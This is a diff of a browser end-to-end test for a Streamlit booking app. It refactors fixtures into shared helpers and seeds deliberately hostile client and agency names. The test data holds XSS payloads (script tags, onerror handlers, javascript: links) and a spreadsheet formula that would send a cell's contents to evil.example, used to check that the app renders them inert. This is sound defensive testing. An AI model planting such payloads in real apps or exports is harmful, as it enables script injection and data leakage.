@@ -7,7 +7,6 @@ payloads shown literally, and the history's CSV with no cell a spreadsheet would
 from __future__ import annotations
 
 import csv
-import datetime as dt
 import io
 import re
 from collections.abc import Iterator
@@ -16,10 +15,14 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Page, expect
 
-from kontur.forms import agencies, bookings, clients, visits
+from kontur.forms import agencies, clients, visits
 from kontur.sandbox.hostile import INJECTION_PROBE_JS, is_hostile
-from kontur.sandbox.server import RunningSandbox, start_sandbox
+from kontur.sandbox.server import RunningSandbox
 from tests.e2e.conftest_auth import REPO, RunningApp, form_context, free_port, run_streamlit, synced_cache
+from tests.support import streamlit_page
+from tests.support.form_records import book_through_forms
+from tests.support.sandbox_records import active_agent, is_free_premise, is_free_slot
+from tests.support.sandboxes import SandboxFactory
 
 pytestmark = pytest.mark.browser
 
@@ -30,14 +33,14 @@ CLIENT_NAME = (
     "Злова <img src=x onerror=alert(1)> [жми](javascript:alert(1)) :red[Ж] "
     '<iframe srcdoc="<script>alert(1)</script>">'
 )
+
 CLIENT_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Открыть") ![x](https://evil.example/x.png)'
 AGENCY_TITLE = "<script>alert(1)</script> Агентство **жирное** $x$"
 
 
 @pytest.fixture(scope="module")
-def box() -> Iterator[RunningSandbox]:
-    with start_sandbox(scale=0.02, seed=SEED, extra_args=("--hostile",)) as running:
-        yield running
+def box(module_sandboxes: SandboxFactory) -> RunningSandbox:
+    return module_sandboxes(scale=0.02, seed=SEED, hostile=True)
 
 
 @pytest.fixture(scope="module")
@@ -47,14 +50,9 @@ def world(box: RunningSandbox, tmp_path_factory: pytest.TempPathFactory) -> dict
     agency."""
     path = synced_cache(box, tmp_path_factory.mktemp("hostile") / "kontur.duckdb")
     with box.admin() as admin:
-        directory = admin.users()
         premises = admin.records("premises")
         slots = admin.records("time-slots")
-    agent = next(
-        u
-        for u in directory
-        if u["role"] == "AGENT" and u["status"] == "active" and u["remaining_user_creation_limit"] > 0
-    )
+    agent = active_agent(box)
     with form_context(box, path, agent) as ctx:
         made = clients.create(
             ctx,
@@ -64,21 +62,9 @@ def world(box: RunningSandbox, tmp_path_factory: pytest.TempPathFactory) -> dict
         )
         assert made.ok, made.message
         assert made.result is not None
-        premise = next(
-            p for p in premises if not p["is_booked"] and not p["is_sold"] and p["purchase_option"]
-        )
-        booked = bookings.create(
-            ctx,
-            bookings.BookingInput(
-                premise_id=premise["id"],
-                client_id=made.result.id,
-                date=dt.date.today() + dt.timedelta(days=2),
-                time="10:00",
-                purchase_option=premise["purchase_option"][0],
-            ),
-        )
-        assert booked.ok, booked.message
-        slot = next(s for s in slots if not s["is_booked"] and s["date"] > dt.date.today().isoformat())
+        premise = next(p for p in premises if is_free_premise(p, with_option=True))
+        booked = book_through_forms(ctx, premise, made.result.id, days_ahead=2, time="10:00")
+        slot = next(s for s in slots if is_free_slot(s, future=True))
         shown = visits.create(
             ctx,
             visits.VisitInput(
@@ -100,7 +86,7 @@ def world(box: RunningSandbox, tmp_path_factory: pytest.TempPathFactory) -> dict
             ),
         )
     assert registered.ok or registered.code == "agency_exists", registered.message
-    return {"cache": path, "booking": booked.result.id if booked.result else None, "agent": agent["id"]}
+    return {"cache": path, "booking": booked.id, "agent": agent["id"]}
 
 
 @pytest.fixture(scope="module")
@@ -122,7 +108,7 @@ def app(box: RunningSandbox, world: dict, tmp_path_factory: pytest.TempPathFacto
 
 
 def settle(page: Page) -> None:
-    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=WAIT_MS)
+    streamlit_page.settle(page, WAIT_MS)
 
 
 def inert(page: Page) -> None:
